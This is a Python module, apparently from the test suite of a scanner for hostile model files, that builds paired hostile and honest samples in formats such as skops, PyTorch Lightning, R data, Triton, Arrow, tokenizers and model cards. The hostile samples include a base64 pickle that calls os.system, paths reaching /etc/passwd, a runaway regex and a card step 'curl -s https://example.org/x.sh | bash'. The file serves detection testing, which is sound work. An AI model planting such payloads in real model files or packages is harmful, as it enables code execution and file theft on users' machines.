"""Kinds that live in formats with builders of their own: skops, TorchServe, R, Caffe, ncnn, Arrow, lists of packages ..."""

from __future__ import annotations

import base64
import json
import pickle
from collections.abc import Callable

from attacks import arrow, pmml, r_data, runtimes, skops_models, texts, tokenizers, torchserve
from attacks.archives import torch_zip
from attacks.kinds.kind import Files, Kind

CARD = "---\nlicense: mit\n---\n# A model\n\nUse it like this:\n```bash\n{}\n```\n"
SPACY = f'{texts.SPACY}\n[nlp.before]\n@callbacks = "own.hook.v1"\n'.encode()
PYTHON_LAYER = "type: 'Python' python_param { module: 'own' layer: 'Layer' }"

SYSTEM = base64.b64encode(b"\x80\x04cposix\nsystem\nX\x09\0\0\0echo hilt\x85R.").decode()


def _one(name: str, does: str, check: str, words: str, honest: str, path: str, build: Callable[[], bytes]) -> Kind:
    return Kind(id=name, does=does, check=check, words=(words,), honest=honest, files=lambda: {path: build()})


def _checkpoint(**hyper_parameters: str) -> bytes:
    state = {"epoch": 3, "pytorch-lightning_version": "2.5.0", "hparams_name": "kwargs", "state_dict": {}}
    return torch_zip(pickle=pickle.dumps(state | {"hyper_parameters": hyper_parameters}, 2))


def _skops(kind: str) -> Callable[[], bytes]:
    return lambda: skops_models.skops(skops_models.HOSTILE[kind])


KINDS = (
    _one("skops-operator", "a model that is a command", "skops-foreign-type", "names os.system", "skops", "model.skops", _skops("a command as an operator")),
    _one("skops-method", "a method of another type than the one that is said", "skops-foreign-type", "'__globals__'", "skops", "model.skops", _skops("a method of another type")),
    _one("lightning-instantiator", "calls what the hyper-parameters name", "lightning-instantiator", "os.system", "torch", "model.ckpt", lambda: _checkpoint(_instantiator="os.system", command="echo hilt")),
    _one("torchserve-requirements", "packages that the server installs", "torchserve-manifest", "'requirements.txt'", "torchserve", "model.mar", lambda: torchserve.mar(requirementsFile="requirements.txt")),
    _one("torchserve-away", "a file of the server in place of the weights", "torchserve-manifest", "an absolute path", "torchserve", "model.mar", lambda: torchserve.mar(serializedFile="/etc/passwd")),
    _one("requirements-index", "another index of packages", "requirements-elsewhere", "another index of packages", "requirements", "requirements.txt", lambda: b"torch>=2\n--extra-index-url https://example.org/simple\n"),
    _one("requirements-address", "a package from an address", "requirements-elsewhere", "from an address", "requirements", "requirements.txt", lambda: b"torch>=2\nhttps://example.org/x.whl\n"),
    _one("r-promise", "calls a function as soon as the object is looked at", "r-code", "a promise that calls system", "r", "model.rds", lambda: r_data.r_data(r_data.promise(r_data.HARMLESS))),
    _one("r-made-up-name", "calls a function whose name it puts together", "r-code", "a name that it makes by paste0", "r", "model.rds", lambda: r_data.r_data(r_data.closure(r_data.call("get", r_data.call("paste0", r_data.strings("sys")))))),
    _one("r-native", "calls native code", "r-code", "native code by way of .Call: 'evil'", "r", "model.rds", lambda: r_data.r_data(r_data.closure(r_data.call(".Call", r_data.strings("evil"))))),
    _one("r-finalizer", "has code called later", "r-code", "reg.finalizer", "r", "model.rds", lambda: r_data.r_data(r_data.closure(r_data.call("reg.finalizer", r_data.symbol("e"), r_data.symbol("f"))))),
    _one("caffe-python", "imports Python", "caffe-layers", "imports the Python module 'own'", "caffe", "deploy.prototxt", lambda: runtimes.prototxt(PYTHON_LAYER)),
    _one("triton-environment", "starts any Python of the machine", "triton-backend", "which is an absolute path", "triton", "config.pbtxt", lambda: runtimes.triton("python", parameters={"EXECUTION_ENV_PATH": "/tmp/env.tar.gz"})),
    _one("triton-library", "loads a native library of the publisher", "triton-backend", "'../own.so' climbs out", "triton", "config.pbtxt", lambda: runtimes.triton(more='model_operations { op_library_filename: "../own.so" }')),
    _one("ncnn-custom", "needs a native library of the publisher", "ncnn-custom-layers", "the custom layer 'Own'", "ncnn", "model.param", lambda: runtimes.ncnn("Own own 1 1 a b 0=1")),
    _one("arrow-pickle", "a column type that is unpickled", "arrow-python-types", "is a pickle", "arrow", "data.arrow", lambda: arrow.file((arrow.PYTHON, arrow.COMMAND))),
    _one("parquet-elsewhere", "columns that lie in any file", "parquet-elsewhere", "'../../etc/passwd'", "parquet", "data.parquet", lambda: arrow.parquet(file_path="../../etc/passwd")),
    _one("tokenizer-pattern", "a pattern that never ends", "tokenizer-patterns", "doubles with every further character", "tokenizer", "tokenizer.json", lambda: tokenizers.tokenizer(pattern="(a+)+$")),
    _one("tokenizer-config-away", "takes any file for the vocabulary", "config-elsewhere", "a file of the machine", "tokenizer", "tokenizer_config.json", lambda: b'{"vocab_file": "/etc/passwd"}'),
    _one("spacy-factory", "calls code of another package while it is loaded", "spacy-foreign-function", "'own.hook.v1'", "spacy", "config.cfg", lambda: SPACY),
    _one("card-command", "a command that readers copy", "card-commands", "runs what it fetches", "card", "README.md", lambda: CARD.format("curl -s https://example.org/x.sh | bash").encode()),
    _one("ort-custom", "needs a native library of the publisher", "onnx-custom-operators", "the custom domain 'own.domain'", "ort", "model.ort", lambda: runtimes.ort(("own.domain", "Own"))),
    _one("pmml-java", "calls any class that the application finds", "pmml-functions", "the name of a Java class", "pmml", "model.pmml", lambda: pmml.apply("com.evil.Function")),
    _one("pmml-extension", "names a class in an extension", "pmml-functions", "'externalClass'", "pmml", "model.pmml", lambda: pmml.HOSTILE["a class of an extension"][0]),
    _one("mxnet-library", "runs code beside the graph", "mxnet-operators", "follows an address", "mxnet", "m-symbol.json", lambda: _mxnet("_Native")),
    _one("json-pickle", "a pickle in the settings of an agent", "json-pickles", "it calls os.system('echo hilt')", "stable-baselines3", "data", lambda: json.dumps({"n_steps": {":serialized:": SYSTEM}}).encode()),
)  # fmt: skip


def _mxnet(operator: str) -> bytes:
    nodes = [{"op": name, "name": "n", "attrs": {}, "inputs": []} for name in ("null", operator)]
    return json.dumps({"nodes": nodes, "arg_nodes": [0], "heads": [[1, 0, 0]]}).encode()


HONEST: dict[str, Callable[[], Files]] = {
    "skops": lambda: {"model.skops": skops_models.skops(skops_models.HONEST[0])},
    "torchserve": lambda: {"model.mar": torchserve.mar()},
    "requirements": lambda: {"requirements.txt": b"torch>=2\nnumpy\n"},
    "r": lambda: {"model.rds": r_data.r_data(r_data.HONEST)},
    "caffe": lambda: {"deploy.prototxt": runtimes.prototxt("type: 'Softmax'")},
    "triton": lambda: {"config.pbtxt": runtimes.triton()},
    "ncnn": lambda: {"model.param": runtimes.ncnn()},
    "arrow": lambda: {"data.arrow": arrow.file()},
    "parquet": lambda: {"data.parquet": arrow.HONEST["parquet"][1]},
    "tokenizer": lambda: {"tokenizer.json": tokenizers.tokenizer(pattern=next(iter(tokenizers.HONEST.values())))},
    "spacy": lambda: {"config.cfg": texts.SPACY.encode()},
    "card": lambda: {"README.md": CARD.format("pip install transformers").encode()},
    "ort": lambda: {"model.ort": runtimes.ort()},
    "pmml": lambda: {"model.pmml": pmml.pmml(pmml.DEFINED)},
    "stable-baselines3": lambda: {"data": json.dumps({"n_steps": {":serialized:": "gARLBy4="}}).encode()},
    "mxnet": lambda: {"m-symbol.json": _mxnet("Convolution")},
}
